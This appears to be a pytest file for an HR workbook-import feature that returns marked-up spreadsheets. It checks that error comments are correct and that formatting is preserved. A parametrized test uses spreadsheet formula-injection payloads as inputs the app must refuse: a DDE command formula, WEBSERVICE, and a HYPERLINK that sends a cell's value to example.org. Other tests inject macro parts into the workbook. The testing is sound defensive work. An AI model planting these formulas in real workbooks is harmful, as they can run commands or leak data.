"""The sender's own workbook comes back with comments: read here by the library that tests read exports by."""

import io
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from sqlalchemy import func, select

from core.audit import AuditEvent, AuditType
from core.db import db
from tests.hr.people.imports.conftest import person, workbook

pytestmark = pytest.mark.slow

BAD = person("Cà Văn Hỏng", "01109", "31/02/1990")
LEFT = person("Quàng Văn Dũng", "011060000006", "14/02/1960")
GOOD = person("Lò Văn An", "011084000001", "12/05/1984")


@pytest.fixture
def english(officer: Any) -> Any:
    officer.client.set_cookie("lang", "en")
    return officer


def office_book() -> Workbook:
    """A workbook as an office keeps it: a merged title, colours, widths, a formula, a comment of its own."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Xã Búng Lao"
    sheet["A1"] = "DANH SÁCH CÁN BỘ"
    sheet.merge_cells("A1:E1")
    sheet["A1"].font = Font(name="Times New Roman", size=16, bold=True, color="FFC00000")
    sheet.append(["TT", "Họ và tên", "Số định danh cá nhân", "Ngày sinh", "Giới tính"])
    sheet.append(["=ROW()-2", "Cà Văn Hỏng", "01109", "31/02/1990", "Nam"])
    sheet.append(["=ROW()-2", "Lò Văn An", "011084000001", "12/05/1984", "Nam"])
    sheet.append([None, "=nghỉ phép", None, None, None])
    sheet["B5"].data_type = "s"
    sheet["C3"].fill = PatternFill("solid", fgColor="FFFFFF00")
    sheet["D3"].comment = Comment("Hỏi lại chị Hoa", "Văn phòng")
    sheet.column_dimensions["B"].width = 33
    return book


def saved(book: Workbook) -> io.BytesIO:
    stream = io.BytesIO()
    book.save(stream)
    stream.seek(0)
    return stream


def marked(officer: Any, where: str) -> Workbook:
    """What the page's link downloads."""
    answer = officer.client.get(f"{where}/marked")
    assert answer.status_code == 200, answer.get_data(as_text=True)
    assert "attachment" in answer.headers["Content-Disposition"]
    return load_workbook(io.BytesIO(answer.data), rich_text=True)


def test_each_wrong_cell_has_a_comment_that_says_what_to_do(english, there):
    where = english.read(workbook(BAD, LEFT, GOOD))
    assert f'href="{where}/marked"' in english.page(where)

    sheet = marked(english, where).active

    comments = {c.coordinate: c.comment.text for row in sheet.iter_rows() for c in row if c.comment}
    assert comments == {
        "B2": "The personal identification number has 12 digits; this one has 5",
        "C2": "There is no such day: 31/02/1990",
        "A3": "This person has left service in the register: open the file",
    }
    returned = (
        select(func.count()).select_from(AuditEvent).where(AuditEvent.type == AuditType.IMPORT_RETURNED)
    )
    assert there(lambda: db.session.scalar(returned)) == 1


def test_the_comments_speak_the_language_of_the_reader(officer):
    where = officer.read(workbook(BAD))

    sheet = marked(officer, where).active

    assert "Số định danh cá nhân" in sheet["B2"].comment.text


def test_values_and_formats_stay_as_they_were(english):
    where = english.read(saved(office_book()))

    sheet = marked(english, where)["Xã Búng Lao"]

    assert sheet["D3"].comment.text == "Hỏi lại chị Hoa\nThere is no such day: 31/02/1990"
    assert (sheet["A1"].font.name, sheet["A1"].font.size, sheet["A1"].font.color.rgb) == (
        "Times New Roman", 16, "FFC00000",
    )  # fmt: skip
    assert [str(merged) for merged in sheet.merged_cells.ranges] == ["A1:E1"]
    assert sheet["C3"].fill.fgColor.rgb == "FFFFFF00"
    assert sheet.column_dimensions["B"].width == 33
    assert (sheet["C3"].value, sheet["A3"].value) == ("01109", "=ROW()-2")


def test_a_text_that_looks_like_a_formula_stays_a_text(english):
    where = english.read(saved(office_book()))

    sheet = marked(english, where)["Xã Búng Lao"]

    assert (sheet["B5"].value, sheet["B5"].data_type) == ("=nghỉ phép", "s")


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://example.org/?"&C3)',
        '=webservice("http://example.org/")',
        "=cmd|'/c calc'!A0",
        "='[Khác.xlsx]Sheet1'!A1",
    ],
)
def test_a_formula_that_reaches_out_is_refused(english, formula):
    book = office_book()
    book.active["F3"] = formula
    where = english.read(saved(book))

    answer = english.client.get(f"{where}/marked")

    assert answer.status_code == 422
    assert "paste them as values and send it again" in answer.get_data(as_text=True)


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml", "xl/embeddings/a.bin"])
def test_a_workbook_with_macros_is_refused(english, part):
    stream = saved(office_book())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr(part, b"x")
    stream.seek(0)
    where = english.read(stream)

    answer = english.client.get(f"{where}/marked")

    assert answer.status_code == 422
    assert "This workbook holds macros" in answer.get_data(as_text=True)


def test_a_workbook_linked_to_other_files_is_refused(english):
    stream = saved(office_book())
    with zipfile.ZipFile(stream, "a") as package:
        package.writestr("xl/externalLinks/externalLink1.xml", b"<x/>")
    stream.seek(0)

    answer = english.client.get(f"{english.read(stream)}/marked")

    assert answer.status_code == 422


def test_of_another_kind_of_file_it_says_what_to_do(english):
    head = "Họ và tên;Số định danh cá nhân;Ngày sinh;Giới tính\n"
    where = english.read((head + "Cà Văn Hỏng;01109;31/02/1990;Nam\n").encode(), "danh sách.csv")

    answer = english.client.get(f"{where}/marked")

    assert answer.status_code == 422
    assert "save it as .xlsx and send it again" in answer.get_data(as_text=True)


def test_where_nothing_is_wrong_there_is_nothing_to_send_back(english):
    where = english.read(workbook(GOOD))

    assert "/marked" not in english.page(where)
    assert english.client.get(f"{where}/marked").status_code == 422


def test_comments_are_offered_for_workbooks_only(officer):
    table = "Họ và tên;Số CCCD;Ngày sinh\nLò Văn An;123;12/05/1984\n".encode()

    where = officer.read(table, "danh sách.csv")

    assert f"{where}/marked" not in officer.page(where)
